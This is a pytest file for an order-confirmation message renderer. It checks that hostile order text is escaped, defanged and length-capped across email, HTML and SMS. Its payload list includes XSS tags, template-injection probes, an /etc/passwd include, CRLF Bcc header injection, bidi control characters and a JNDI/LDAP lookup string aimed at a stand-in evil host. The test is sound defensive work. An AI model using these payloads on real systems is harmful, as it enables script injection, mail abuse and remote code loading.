"""Orders written to do harm: nothing they say is run, followed, hidden or allowed to crowd out the message."""

import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orderack.contracts.activities import Facts
from orderack.domain.acknowledgement import Kind
from orderack.domain.order import Address, Customer, Line, Order, Payment, Pickup, Totals
from orderack.domain.response import LineAnswer, Outcome
from orderack.messages import MessageRenderer
from orderack.messages.clean import line, prose, unlinked, without_addresses
from orderack.messages.samples import ORDER, STORE, samples
from orderack.messages.sms import segments
from orderack.ports import Content, Rendered

Make = Callable[..., Content]

CORPUS = (
    "<script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% for i in range(9) %}x{% endfor %}{# gone #}",
    "{{ ''.__class__.__mro__ }}",
    '<mj-include path="/etc/passwd" /><mj-raw><b>raw</b></mj-raw>',
    "<![CDATA[ x ]]> <!-- --> <!--[if mso]> &lt;script&gt; &#60;script&#62;",
    "Subject\r\nBcc: everyone@example.com\r\n\r\nBody",
    "\u202egpj.exe\u202c \u2066hidden\u2069 \u200bzero\ufeff\u00ad",
    "👩‍👩‍👧 🍰 𝒳 漢字 עברית العربية",
    "W" * 1_999,
    "\x00\x01\x1b[31mred\x7f\x85",
    "{order} {n} {item} {sku} {number} {store}",
    "${jndi:ldap://evil.example.com/a} %s %n {0} %(x)s",
)


def _hostile(text: str) -> Content:
    name = text.strip()[:200].strip() or "x"
    item = Line(
        line_id="1", sku=name, model=text, description=text, quantity=Decimal(1), unit_price=Decimal(1),
        instructions=text, design=text, dietary=text,
    )  # fmt: skip
    order = Order(
        store="s", number=name, source=name, trigger_at=datetime(2026, 6, 1, tzinfo=UTC),
        customer=Customer(name=text), lines=(item,), currency="EUR", totals=Totals(total=Decimal(1)),
        delivery_address=Address(name=text, company=text, street=text, street2=text, city=text, region=text,
                                 postal_code=text, country="US"),
        pickup=Pickup(location=text), payment=Payment(terms=text, method=text), instructions=text,
    )  # fmt: skip
    answer = LineAnswer(line_id="1", outcome=Outcome.SUBSTITUTE, accepted=Decimal(1), substitute_sku=name, note=text)
    return next(samples(Kind.CONFIRMATION, "en")).model_copy(
        update={
            "order": order,
            "previous": order.model_copy(update={"lines": (), "instructions": None, "delivery_address": None}),
            "facts": Facts(
                document_id=name, answers=(answer,), reason=text, question=text, owner=name, waiting_for=text
            ),
        }
    )


def _shapes(message: Rendered) -> tuple[str, ...]:
    return (message.subject, message.text, message.html or "", message.sms or "")


def _nothing_got_through(message: Rendered) -> None:
    subject, text, html, sms = _shapes(message)
    for live in ("<script", "<img", "<mj-", "<b>", "<![cdata"):
        assert live not in html.lower()
    for shape in (subject, text, html, sms):
        hidden = [c for c in shape if c != "\n" and unicodedata.category(c) in ("Cc", "Cf") and c not in "\u200c\u200d"]
        assert hidden == []
    assert "\n" not in subject
    assert len(subject) <= 150
    assert segments(sms).count <= 2


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("kind", tuple(Kind))
@pytest.mark.parametrize("language", ["en", "fr"])
def test_hostile_text_is_shown_as_text_in_every_kind(
    renderer: MessageRenderer, kind: Kind, language: str, text: str
) -> None:
    content = _hostile(text).model_copy(update={"kind": kind, "language": language})
    _nothing_got_through(renderer.render(content))


def test_template_marks_in_an_order_are_never_run(renderer: MessageRenderer) -> None:
    message = renderer.render(_hostile("{{ 7*7 }}{{ order.number }}"))
    assert "{{ 7*7 }}{{ order.number }}" in message.text
    assert "{{ 7*7 }}" in (message.html or "")
    assert "49" not in message.subject


def test_label_marks_in_an_order_are_never_filled(renderer: MessageRenderer, plain: Make) -> None:
    content = plain(Kind.CONFIRMATION, order__number="{store}{number}{stock}")
    assert "because order {store}{number}{stock} was placed with Sample & Sons." in renderer.render(content).text


def test_a_subject_stays_one_line_whatever_the_order_number(renderer: MessageRenderer, plain: Make) -> None:
    subject = renderer.render(plain(Kind.RECEIVED, order__number="A\r\nBcc: x@example.com\u2028B" + "9" * 300)).subject
    assert subject.startswith("Order A Bcc: x@example.com B999")
    assert len(subject) == 150


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(max_size=400), kind=st.sampled_from(Kind), language=st.sampled_from(["en", "de", "fr", "es"]))
def test_any_text_whatever_renders_and_nothing_gets_through(
    renderer: MessageRenderer, text: str, kind: Kind, language: str
) -> None:
    content = _hostile("<script>" + text).model_copy(update={"kind": kind, "language": language})
    _nothing_got_through(renderer.render(content))


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    price=st.decimals(0, 10**12, places=4),
    quantity=st.decimals("0.0001", 10**7, places=4),
    currency=st.from_regex(r"[A-Z]{3}", fullmatch=True),
    language=st.from_regex(r"[a-z]{2,3}(-[A-Za-z0-9]{2,8})?", fullmatch=True),
    country=st.from_regex(r"[A-Z]{2}", fullmatch=True),
    at=st.integers(0, 7_000_000_000).map(lambda second: datetime.fromtimestamp(second, UTC)),
    zone=st.sampled_from(["UTC", "America/New_York", "Asia/Kathmandu", "Pacific/Apia", "Antarctica/Troll"]),
)
def test_any_price_currency_language_and_time_renders(
    renderer: MessageRenderer, price: Decimal, quantity: Decimal, currency: str, language: str, country: str,
    at: datetime, zone: str,
) -> None:  # fmt: skip
    item = ORDER.lines[0].model_copy(update={"unit_price": price, "quantity": quantity})
    order = ORDER.model_copy(
        update={"lines": (item,), "currency": currency, "pickup": Pickup(location="Counter", at=at), "trigger_at": at}
    )
    store = STORE.model_copy(update={"time_zone": zone, "country": country})
    content = next(samples(Kind.CONFIRMATION, language)).model_copy(update={"order": order, "store": store})
    _nothing_got_through(renderer.render(content))


def test_five_thousand_lines_become_a_hundred_and_a_link(renderer: MessageRenderer, plain: Make) -> None:
    items = tuple(ORDER.lines[0].model_copy(update={"line_id": str(n), "sku": f"SKU-{n}"}) for n in range(5_000))
    in_stock = (LineAnswer(line_id=str(n), outcome=Outcome.ACCEPT, accepted=Decimal(2)) for n in range(4_999))
    answers = (*in_stock, LineAnswer(line_id="4999", outcome=Outcome.BACKORDER, backordered=Decimal(2)))
    message = renderer.render(plain(Kind.CONFIRMATION, order__lines=items, facts__answers=answers))
    assert message.text.count("Item no.") == 100
    assert "- and 4,900 more; see your order page" in message.text
    assert "SKU-4999 " in message.text
    assert "1 item on backorder" in message.subject
    assert len(message.text) < 60_000
    assert len(message.html or "") < 200_000


def test_lines_full_of_text_are_cut_and_counted_so_that_a_mail_keeps_its_size(
    renderer: MessageRenderer, plain: Make
) -> None:
    full = '&"' * 1_000
    fields = {"model": full, "description": full, "instructions": full, "design": full, "dietary": full}
    items = tuple(ORDER.lines[0].model_copy(update={"line_id": str(n), **fields}) for n in range(500))
    previous = ORDER.model_copy(update={"lines": ()})
    message = renderer.render(plain(Kind.CONFIRMATION, order__lines=items, previous=previous))
    assert "more; see your order page" in message.text
    assert len(message.text) < 100_000
    assert len(message.html or "") < 300_000


def test_an_address_in_an_order_is_readable_and_no_link(renderer: MessageRenderer, plain: Make) -> None:
    text = "Design at https://evil.example.com/login and evil.com, see www.evil.example"
    message = renderer.render(plain(Kind.CONFIRMATION, order__instructions=text, order__customer=Customer(name=text)))
    for shape in _shapes(message):
        for link in ("https://evil", "evil.com", "www.evil.example"):
            assert link not in shape
    assert "https[:]//evil[.]example[.]com/login and evil[.]com, see www[.]evil[.]example" in message.text


def test_an_order_number_that_is_a_link_does_not_reach_a_phone(renderer: MessageRenderer, plain: Make) -> None:
    sms = renderer.render(plain(Kind.RECEIVED, order__number="https://evil.example.com/pay")).sms or ""
    assert "evil" not in sms
    assert sms.endswith("https://orders.example.com/o/sample")


@pytest.mark.parametrize(
    "text",
    ["No. 5 cable 1.5mm, 2.5 kg", "Dr.Martens e.g. size 8.5", "ada@example.com", "Node.js v1.2.3", "a.b", "12.06."],
)
def test_ordinary_words_with_dots_stay_as_they_are(text: str) -> None:
    assert unlinked(text) == text
    assert without_addresses(text) == text


def test_line_breaks_stay_in_prose_and_go_from_a_line() -> None:
    assert prose("one\r\n\r\n two\tb\u2028three\x00") == "one\ntwo b\nthree"
    assert line("one\r\ntwo") == "one two"
    assert line("x" * 300) == "x" * 199 + "…"
